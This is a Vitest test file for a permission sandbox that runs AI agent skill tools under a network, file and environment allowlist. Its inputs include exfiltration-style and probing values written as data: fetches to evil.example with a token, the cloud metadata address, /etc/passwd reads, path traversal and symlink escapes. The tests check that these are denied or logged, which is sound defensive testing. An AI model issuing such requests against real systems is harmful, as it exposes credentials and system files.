import { mkdir, readdir, readFile, rename, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Adopted } from '../adopted.ts';
import { NOW_MS, seededId } from '../testing/documents.ts';
import { temporaryFolder } from '../testing/folder.ts';
import { makeRegistryKey, type TestKey } from '../testing/identity.ts';
import { startInternet } from '../testing/internet.ts';
import { recordedLog } from '../testing/log.ts';
import { signedDocument } from '../testing/signed.ts';
import { makeSkill, type TestSkill, type TestSkillOptions } from '../testing/skill.ts';
import { type Denial, type RunToolOptions, runTool } from './run-tool.ts';

let key: TestKey;
let skill: TestSkill;
beforeAll(async () => {
  key = await makeRegistryKey('approval');
  skill = await makeSkill();
});

interface WorldOptions extends TestSkillOptions {
  mode?: 'soft' | 'hard';
  installed?: boolean;
  own?: TestSkill;
}

async function world({ mode = 'hard', installed = true, own = skill }: WorldOptions = {}) {
  const base = [{ host: 'models.example', ports: [80], protocol: 'http' as const }];
  const document = await signedDocument(key, { skill: installed ? own : null, base, mode });
  const at = new Date(NOW_MS).toISOString();
  const adopted: Adopted = {
    ...{ jws: '', epoch: 1, sequence: 1, issuedAt: at, expiresAt: at, adoptedAtMs: NOW_MS },
    tenants: [
      { tenantId: document.tenantId, enforced: { revision: document.revision, digest: '', document }, refused: null },
    ],
  };
  const internet = await startInternet((host) => ({ body: `hello from ${host}` }));
  const workFolder = await temporaryFolder();
  await mkdir(join(workFolder, 'data'));
  await writeFile(join(workFolder, 'data', 'cities.txt'), 'Bern');
  const denials: Denial[] = [];
  const packages = await temporaryFolder();
  const { log, lines } = recordedLog();
  const options: Omit<RunToolOptions, 'input'> = {
    adopted,
    tenantId: document.tenantId,
    agent: 'assistant',
    skill: 'weather',
    tool: 'probe',
    packageFile: null,
    workFolder,
    packages,
    keys: { keys: [key.publicKey] },
    download: async () => own.bytes,
    onDenied: (denial) => denials.push(denial),
    fetch: internet.fetch,
    environment: { WEATHER_KEY: 'abc', HOME: '/root', NODE_OPTIONS: '--inspect' },
    signal: new AbortController().signal,
    log,
  };
  const run = (input: Record<string, string>, more: Partial<RunToolOptions> = {}) =>
    runTool({ ...options, ...more, input });
  return { run, options, denials, requests: internet.requests, workFolder, packages, lines };
}

describe('running a tool under what its agent may do', () => {
  it('reaches what the skill and the base of the agent opened', async () => {
    const { run, denials, requests } = await world();
    expect(await run({ do: 'fetch', url: 'http://api.weather.example/bern?x=1', method: 'POST' })).toMatchObject({
      ...{ skill: 'weather', version: '1.2.0', tool: 'probe', mode: 'hard', error: null },
      output: { status: 200, text: 'hello from api.weather.example', url: expect.stringContaining('/bern?x=1') },
      calls: [{ kind: 'net', value: 'api.weather.example:80', allowed: true }],
    });
    expect(await run({ do: 'plain fetch', url: 'http://models.example/' })).toMatchObject({ output: { status: 200 } });
    expect(requests).toEqual(['POST api.weather.example/bern?x=1', 'GET models.example/']);
    expect(denials).toEqual([]);
  });

  it('in HARD denies everything else before it leaves, and says so with skill, revision and reason (A142, A133)', async () => {
    const { run, denials, requests } = await world();
    const result = await run({ do: 'fetch', url: 'http://evil.example/secret?token=1' });
    expect(result).toMatchObject({ output: null, error: { code: 'PERMISSION_DENIED' } });
    expect(requests).toEqual([]);
    expect(denials).toEqual([
      {
        ...{ mode: 'hard', reason: 'not_in_allowlist', revision: 7, agentId: seededId('agent', 1), tool: 'probe' },
        skill: { name: 'weather', version: '1.2.0', digest: skill.archiveDigest },
        ...{ host: 'evil.example', port: 80, protocol: 'http' },
      },
    ]);
    expect(JSON.stringify(denials)).not.toContain('token');
  });

  it.each([
    ['http://api.weather.example:8080/', 'port'],
    ['https://api.weather.example/', 'port'],
    ['http://10.0.0.1/', 'private_ip'],
    ['http://169.254.169.254/latest/meta-data', 'private_ip'],
    ['http://192.0.2.7/', 'raw_ip'],
    ['http://localhost/', 'private_ip'],
  ])('denies %s as %s, by a plain fetch too', async (url, reason) => {
    const { run, denials } = await world();
    expect((await run({ do: 'plain fetch', url })).error?.code).toBe('PERMISSION_DENIED');
    expect(denials.map((denial) => denial.reason)).toEqual([reason]);
  });

  it('in SOFT lets it go and says what HARD would have denied (A141)', async () => {
    const { run, denials, requests } = await world({ mode: 'soft' });
    expect(await run({ do: 'fetch', url: 'http://evil.example/' })).toMatchObject({
      mode: 'soft',
      output: { status: 200 },
    });
    expect(requests).toEqual(['GET evil.example/']);
    expect(denials).toMatchObject([{ mode: 'soft', reason: 'not_in_allowlist', host: 'evil.example' }]);
  });

  it('counts each denied call', async () => {
    const { run, denials } = await world();
    expect(
      await run({ do: 'try', url: 'http://evil.example/ http://evil.example/ http://other.example/' }),
    ).toMatchObject({ output: { denied: 3 } });
    expect(denials.map(({ host }) => host)).toEqual(['evil.example', 'evil.example', 'other.example']);
  });

  it('gives files and environment as approved, and the package’s own files', async () => {
    const { run, workFolder } = await world();
    expect(await run({ do: 'read', path: 'data/cities.txt' })).toMatchObject({ output: { text: 'Bern' } });
    expect(await run({ do: 'read', path: 'assets/own.txt' })).toMatchObject({ output: { text: 'my own file' } });
    expect(await run({ do: 'write', path: 'data/new.txt' })).toMatchObject({
      output: { list: ['cities.txt', 'new.txt'] },
    });
    expect(await readFile(join(workFolder, 'data', 'new.txt'), 'utf8')).toBe('written');
    expect(await run({ do: 'remove', path: 'data/new.txt' })).toMatchObject({ error: null });
    expect(await run({ do: 'env', name: 'WEATHER_KEY' })).toMatchObject({
      output: { value: 'abc', all: ['WEATHER_KEY'] },
    });
    const refused: Record<string, string>[] = [
      { do: 'read', path: '/etc/passwd' },
      { do: 'write', path: 'elsewhere.txt' },
      { do: 'env', name: 'HOME' },
    ];
    for (const input of refused) {
      const { error, calls } = await run(input);
      expect([error?.code, calls[0]?.allowed]).toEqual(['PERMISSION_DENIED', false]);
    }
  });

  it('gives `node:fs` the declared paths too, in the folder of the run, and no others', async () => {
    const { run, workFolder } = await world();
    expect((await run({ do: 'raw read', path: 'data/cities.txt' })).output).toEqual({ text: 'Bern' });
    expect((await run({ do: 'raw write', path: 'raw.txt' })).output).toEqual({ text: 'written' });
    expect(await readFile(join(workFolder, 'data', 'raw.txt'), 'utf8')).toBe('written');
    await writeFile(join(workFolder, 'outside.txt'), 'mine');
    for (const input of [
      { do: 'raw read', path: 'outside.txt' },
      { do: 'raw write', path: '../outside.txt' },
    ]) {
      expect((await run(input)).error?.code).toBe('ERR_ACCESS_DENIED');
    }
    await rename(join(workFolder, 'data'), join(workFolder, 'elsewhere'));
    await symlink(join(workFolder, 'elsewhere'), join(workFolder, 'data'));
    expect((await run({ do: 'raw read', path: 'data/cities.txt' })).error?.code).toBe('ERR_ACCESS_DENIED');
  });

  it('keeps the process of the tool away from files, programs and other ways to the network', async () => {
    const { run } = await world();
    expect((await run({ do: 'raw read', path: '/etc/passwd' })).error?.code).toBe('ERR_ACCESS_DENIED');
    expect((await run({ do: 'exec' })).error?.code).toBe('ERR_ACCESS_DENIED');
    expect((await run({ do: 'globals' })).output).toEqual({ webSocket: 'undefined', eventSource: 'undefined' });
  });

  it('believes the tool’s process nothing but its own result', async () => {
    const { run } = await world();
    expect((await run({ do: 'forge' })).output).toEqual({ forged: true });
    expect((await run({ do: 'function' })).output).toEqual({ kept: true });
  });

  it('says how a tool ended that gave no result', async () => {
    const { run } = await world();
    expect((await run({ do: 'throw' })).error).toEqual({ code: null, message: 'it broke' });
    expect((await run({ do: 'exit' })).error?.message).toContain('exit code 3');
  });

  it('ends a tool that takes too long, and leaves nothing of the run behind', async () => {
    const { run, packages } = await world({ own: await makeSkill({ callSeconds: 1 }) });
    expect((await run({ do: 'hang' })).error).toMatchObject({ code: 'TIMEOUT' });
    expect((await readdir(packages)).filter((name) => name.startsWith('run-'))).toEqual([]);
  });

  it('ends with the command', async () => {
    const { run } = await world();
    const stop = new AbortController();
    setTimeout(() => stop.abort(), 300);
    expect((await run({ do: 'hang' }, { signal: stop.signal })).error?.code).toBe('TIMEOUT');
  });

  it('runs a named export, and the source where nobody built a bundle', async () => {
    const { run } = await world({ own: await makeSkill({ bundle: false }) });
    expect(await run({ do: 'x' }, { tool: 'other' })).toMatchObject({ output: { other: true } });
  });

  it('logs what the tool says without its secrets', async () => {
    const { run, lines } = await world();
    await run({ do: 'log' });
    expect(lines).toMatchObject([{ message: 'tool says', text: 'said', fields: { token: '[redacted]' } }]);
  });
});

describe('what cannot be run', () => {
  it.each<[what: string, more: Partial<RunToolOptions>, message: RegExp]>([
    ['a tenant that is not here', { tenantId: seededId('tenant', 9) }, /No document of ten-.* is in force/],
    ['an agent that is not here', { agent: 'nobody' }, /has no agent nobody in this cluster; it has assistant/],
    ['a skill that is not installed', { skill: 'crm' }, /crm is not installed on assistant/],
    [
      'a tool that the skill does not have',
      { tool: 'forecast' },
      /has no tool forecast; it has other, probe|it has probe, other/,
    ],
    ['an installed skill from another file', { packageFile: '/tmp/weather.tar.gz' }, /run it without --package/],
  ])('%s says what is there instead', async (_, more, message) => {
    const { run } = await world();
    await expect(run({ do: 'x' }, more)).rejects.toThrow(message);
  });

  it('input that the tool does not take is refused before anything runs', async () => {
    const { run } = await world();
    await expect(run({ nonsense: '1' })).rejects.toMatchObject({ code: 'VALIDATION_FAILED' });
  });
});

describe('a skill that is not installed, from a file', () => {
  it('may use what the agent may, and its denials say so (A133)', async () => {
    const { run, denials, requests } = await world({ installed: false });
    const packageFile = join(await temporaryFolder(), 'weather.tar.gz');
    await writeFile(packageFile, skill.bytes);
    expect(await run({ do: 'fetch', url: 'http://models.example/' }, { packageFile })).toMatchObject({
      output: { status: 200 },
    });
    expect((await run({ do: 'fetch', url: 'http://api.weather.example/' }, { packageFile })).error?.code).toBe(
      'PERMISSION_DENIED',
    );
    expect((await run({ do: 'read', path: 'data/cities.txt' }, { packageFile })).error?.code).toBe('PERMISSION_DENIED');
    expect(denials).toMatchObject([
      { reason: 'skill_not_installed', host: 'api.weather.example', skill: { name: 'weather', version: '1.2.0' } },
    ]);
    expect(requests).toEqual(['GET models.example/']);
  });
});
